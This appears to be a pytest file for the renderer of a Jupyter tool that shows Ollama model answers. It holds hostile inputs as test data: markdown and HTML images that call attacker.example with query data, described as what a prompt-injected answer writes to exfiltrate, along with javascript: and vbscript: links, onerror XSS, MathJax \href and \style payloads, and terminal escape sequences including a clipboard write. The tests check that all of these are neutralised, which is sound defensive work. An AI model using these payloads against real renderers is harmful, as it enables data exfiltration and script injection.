"""Rendering an answer (pure functions): maths vs money, inert HTML, code blocks, deep
nesting, the live view's finished/open split, the record's metadata, terminal safety."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import pytest

import ollama_nb._render
from ollama_nb._render import OPEN_LIMIT_TEXT, LiveMarkdown, markdown_html, record_html
from ollama_nb._result import OllamaResult, package_version, settings_of
from ollama_nb._view import terminal_safe

MATH = re.compile(r'<(span|div) class="math [^"]*mathjax_process[^"]*">(.*?)</\1>', re.S)


def maths(html: str) -> list[str]:
    return [m.group(2) for m in MATH.finditer(html)]


def text_of(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html)


@pytest.mark.parametrize(
    "text",
    [
        "Tickets cost $5 and parking is $10.",
        "Set $HOME and $PATH first.",
        "It costs US$ 3, or $ 4 $ at most.",
        "From $20 to $30 a month",
        "Between $x$5 and more",  # a closing $ followed by a digit is not maths
        "A lone $ sign.",
    ],
)
def test_money_reads_as_written(text: str) -> None:
    html = markdown_html(text)
    assert maths(html) == [], html
    assert text in text_of(html)
    # The text sits where MathJax does not look.
    assert html.startswith('<div class="mathjax_ignore tex2jax_ignore">')


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Euler: $e^{i\\pi}+1=0$.", ["\\(e^{i\\pi}+1=0\\)"]),
        ("$$E=mc^2$$", ["\\[E=mc^2\\]"]),
        ("Inline \\(x^2\\) here.", ["\\(x^2\\)"]),
        ("Display:\n\n\\[\\int_0^1 x\\,dx\\]\n", ["\\[\\int_0^1 x\\,dx\\]"]),
        ("Costs $5, while $a<b$ holds.", ["\\(a&lt;b\\)"]),
        ("Both $a$ and $b$.", ["\\(a\\)", "\\(b\\)"]),
    ],
)
def test_maths_is_left_for_mathjax(text: str, expected: list[str]) -> None:
    assert maths(markdown_html(text)) == expected


def test_code_is_never_maths_and_keeps_its_angle_brackets() -> None:
    html = markdown_html("Use `$x$` or\n\n```sh\necho $HOME <in> \\(x\\) $y$\n```\n")
    assert maths(html) == []
    assert "<code>$x$</code>" in html
    assert "echo $HOME &lt;in&gt; \\(x\\) $y$" in without_spans(html)


def without_spans(html: str) -> str:
    """The HTML without the highlighter's colour spans (their text kept, still escaped)."""
    return re.sub(r"</?span[^>]*>", "", html)


def test_raw_html_stays_inert() -> None:
    html = markdown_html('Hi <img src=x onerror="alert(1)"> $x$ <script>1</script>')
    assert "<img" not in html and "<script" not in html and "onerror" not in html
    assert '<a class="ollama-nb-image" href="x"' in html and "&lt;script&gt;" in html


# What a prompt-injected answer writes to exfiltrate: none of it may load anything.
REMOTE_IMAGES = [
    ("![the chart](https://attacker.example/c.png?q=secret)", "the chart"),
    ('![a *b*](http://attacker.example/x.png "T")', "a b"),
    ("![][r]\n\n[r]: https://attacker.example/ref.png", "image"),
    ('Hi <img src="https://attacker.example/?q=1" alt="a &amp; b"> there', "a &amp; b"),
    ("<IMG SRC=http://attacker.example/y onerror=alert(1)>", "image"),
    ("| a |\n|---|\n| ![cell](http://attacker.example/t.png) |", "cell"),
    ("- ![item](//attacker.example/i.png)", "item"),
]


def links(html: str) -> list[tuple[str, str]]:
    return re.findall(r'<a class="ollama-nb-image" href="([^"]*)"[^>]*>(.*?)</a>', html)


@pytest.mark.parametrize(("text", "alt"), REMOTE_IMAGES)
def test_an_image_in_an_answer_is_a_link_never_fetched(text: str, alt: str) -> None:
    html = markdown_html(text)
    assert "<img" not in html.lower() and " src=" not in html.lower(), html
    [(href, shown)] = links(html)
    assert "attacker.example" in href and shown == alt


def test_an_image_inside_a_link_shows_its_alt_text_in_that_link() -> None:
    html = markdown_html("[![logo](http://attacker.example/l.png)](https://example.org)")
    assert "<img" not in html and html.count("<a ") == 1
    assert '<a href="https://example.org">logo</a>' in html


def test_ordinary_links_stay_links_and_code_stays_code() -> None:
    html = markdown_html("[docs](https://example.org) and `<img src=http://x>`")
    assert '<a href="https://example.org">docs</a>' in html
    assert "<code>&lt;img src=http://x&gt;</code>" in html


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "![x](javascript:alert(1))",
        '<img src="javascript:alert(1)" alt="x">',
        "[x](vbscript:msgbox(1))",
    ],
)
def test_javascript_urls_are_inert(text: str) -> None:
    html = markdown_html(text)
    assert "href=" not in html and "<img" not in html, html


DELIMITERS = [("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\n\n\\[", "\\]")]


@pytest.mark.parametrize(
    "tex",
    [
        "\\href{javascript:alert(1)}{click}",
        "\\href{ JavaScript :alert(1)}{click}",
        "\\href{java\tscript:alert(1)}{click}",
        "\\href {data:text/html,x}{click}",
        "\\style{background:url(https://attacker.example/s)}{x}",
        "\\bbox[background-image:url(https://attacker.example/b)]{x}",
        '\\mmlToken{mi}[href="javascript:alert(1)"]{x}',
        "\\def\\h#1#2{\\href{#1#2}{x}}\\h{java}{script:alert(1)}",
        "\\newcommand{\\h}{\\href}\\h{javascript:alert(1)}{x}",
        "\\require{action}",
        "\\class{c}{x} \\cssId{i}{y}",
    ],
)
@pytest.mark.parametrize("delimiters", DELIMITERS)
def test_maths_that_could_link_style_or_load_is_shown_as_source(
    tex: str, delimiters: tuple[str, str]
) -> None:
    opening, closing = delimiters
    html = markdown_html(f"See {opening}{tex}{closing} here")
    assert maths(html) == [], html  # nothing MathJax would typeset
    assert html.startswith('<div class="mathjax_ignore tex2jax_ignore">')
    assert "<code>" in html and 'href="' not in html


def test_safe_maths_with_a_web_link_is_still_typeset() -> None:
    html = markdown_html("$\\href{https://example.org}{x} + \\bbox[red,5pt]{y}$")
    assert maths(html) == ["\\(\\href{https://example.org}{x} + \\bbox[red,5pt]{y}\\)"]


def test_live_view_shows_images_as_links_too() -> None:
    text = "Intro\n\n![leak](https://attacker.example/?q=1)\n\nmore $\\href{javascript:x}{y}$"
    finished, opened = feed(text, 4)
    pieces = "".join(finished) + "".join(opened)
    assert "<img" not in pieces and 'href="javascript' not in pieces
    assert not any("javascript" in tex for tex in maths(pieces))
    assert ("https://attacker.example/?q=1", "leak") in links("".join(finished))


def test_record_html_shows_images_as_links() -> None:
    result = OllamaResult(
        model="m",
        text="![x](https://attacker.example/a.png)",
        thinking='<img src="https://attacker.example/t.png">',
        done_reason="stop",
    )
    html = record_html(result)
    assert "attacker.example" in html and "<img" not in html
    assert len(links(html)) == 2


def test_deep_nesting_keeps_every_word() -> None:
    lines = [f"{'  ' * depth}- level{depth}" for depth in range(12)]
    text = "\n".join(lines) + "\n\nThe paragraph after the list."
    plain = text_of(markdown_html(text))
    for depth in range(12):
        assert f"level{depth}" in plain
    assert "The paragraph after the list." in plain


def test_deeper_blockquotes_keep_every_word() -> None:
    text = "".join(f"{'> ' * depth}quote{depth}\n" for depth in range(1, 40)) + "\nafter\n"
    plain = text_of(markdown_html(text))
    assert all(f"quote{depth}" in plain for depth in range(1, 40)) and "after" in plain


def feed(text: str, step: int) -> tuple[list[str], list[str]]:
    live = LiveMarkdown()
    finished, opened = [], []
    for at in range(0, len(text), step):
        done, open_html = live.add(text[at : at + step])
        if done:
            finished.append(done)
        opened.append(open_html)
    return finished, opened


def test_live_view_sends_finished_blocks_once() -> None:
    text = "# Title\n\nFirst para $5.\n\n- a\n- b\n\n```py\nx = 1\n\ny = 2\n```\n\nLast one"
    finished, opened = feed(text, 3)
    joined = without_spans("".join(finished))
    for piece in ("<h1>Title</h1>", "First para $5.", "<li>a</li>", "x = 1\n\ny = 2"):
        assert joined.count(piece) == 1, (piece, joined)
    assert "Last one" in opened[-1] and "Last one" not in joined
    # Each finished piece renders as it would on its own: one <ul>, one code block.
    assert joined.count("<ul>") == 1 and len(re.findall("<pre[ >]", joined)) == 1


def test_live_view_cost_stays_linear_for_one_huge_paragraph() -> None:
    text = " ".join(f"word{i}" for i in range(40_000))  # ~300 KB, no blank line at all
    finished, opened = feed(text, 700)
    # Each step sends the text it finished once, and at most OPEN_LIMIT_TEXT of open text.
    assert max(len(o) for o in opened) < OPEN_LIMIT_TEXT + 1024
    assert sum(map(len, finished)) < 1.2 * len(text)
    plain = text_of("".join(finished) + opened[-1])
    assert plain.split() == text.split()


def test_a_long_code_block_is_cut_at_line_ends_and_reopened() -> None:
    code = "".join(f"line_{i} = {i}  # $x$\n" for i in range(600))
    finished, opened = feed(f"```python\n{code}```\n\nafter", 500)
    pieces = [*finished, opened[-1]]
    blocks = re.findall(
        r'<pre[^>]*><code class="language-python"[^>]*>(.*?)</code></pre>',
        without_spans("".join(pieces)),
        re.S,
    )
    assert len(blocks) > 1
    assert "".join(blocks) == code
    assert all(maths(p) == [] for p in pieces)


def test_record_html_wraps_status_and_thinking() -> None:
    result = OllamaResult(model="m", text="Costs $5 and $6", thinking="$x$", done_reason="stop")
    html = record_html(result)
    assert maths(html) == ["\\(x\\)"]
    assert "Costs $5 and $6" in html


def test_record_metadata_says_how_it_was_made() -> None:
    payload = {
        "model": "m", "prompt": "p", "options": {"temperature": 0}, "think": False,
        "format": "json", "stream": True,
    }  # fmt: skip
    result = OllamaResult(
        model="m", done_reason="stop", eval_count=3, elapsed=1.23456,
        host="http://user:secret@h:1", settings=settings_of(payload),
    )  # fmt: skip
    data, metadata = result.record_bundle()
    assert set(data) == {"text/html", "text/plain"}
    assert metadata == {
        "ollama_nb": {
            "model": "m", "done_reason": "stop", "eval_count": 3, "elapsed": 1.235,
            "options": {"temperature": 0}, "think": False, "format": "json",
            "version": package_version(),
        }
    }  # fmt: skip
    assert "secret" not in json.dumps(metadata) and package_version() != "unknown"
    assert OllamaResult(model="m").record_metadata()["ollama_nb"]["options"] == {}


def test_render_does_not_import_result() -> None:
    """One direction only: `_result` uses `_render`, never the other way round."""
    tree = ast.parse(Path(ollama_nb._render.__file__).read_text(encoding="utf-8"))
    imported = {
        node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
    } | {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import)
         for alias in node.names}  # fmt: skip
    assert not {name for name in imported if "_result" in name or name == "ollama_nb"}


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;pwned\x07title", "title"),
        ("copy\x1b]52;c;ZXZpbA==\x1b\\ done", "copy done"),
        ("\x1b[2J\x1b[31mred\x1b[0m", "red"),
        ("a\rb\x08c\x00d\x7fe\x9b31mf\x9d0;t\x9cg", "abcdefg"),
        ("tab\tand\nnewline, ünïcode ✓", "tab\tand\nnewline, ünïcode ✓"),
        ("cut \x1b", "cut "),
    ],
)
def test_terminal_safe(raw: str, shown: str) -> None:
    assert terminal_safe(raw) == shown


def test_record_has_its_status_on_top_and_code_coloured_as_jupyter_colours_it() -> None:
    text = "Say:\n\n```python\nx = 1  # one\n```"
    result = OllamaResult(model="m", text=text, done_reason="stop")
    html = record_html(result)
    # The status line first, where the live view's header was; then the answer.
    assert html.index("ollama-nb-status") < html.index("ollama-nb-answer")
    # Pygments' classes, coloured by JupyterLab's editor variables (stylesheet sent once).
    assert '<span class="c"># one\n</span>' in html and html.count("<style>") == 1
    assert ".ollama-nb-code .c {color: var(--jp-mirror-editor-comment-color, #408080)" in html
    plain = record_html(OllamaResult(model="m", text="No code.", done_reason="stop"))
    assert "<style>" not in plain
    # Table cells aligned as Jupyter's Markdown aligns them (not right as in HTML outputs).
    table = record_html(OllamaResult(model="m", text="| a | b |\n|---|--:|\n| 1 | 2 |"))
    assert '<td style="text-align: left">1</td>' in table
    assert '<td style="text-align:right">2</td>' in table
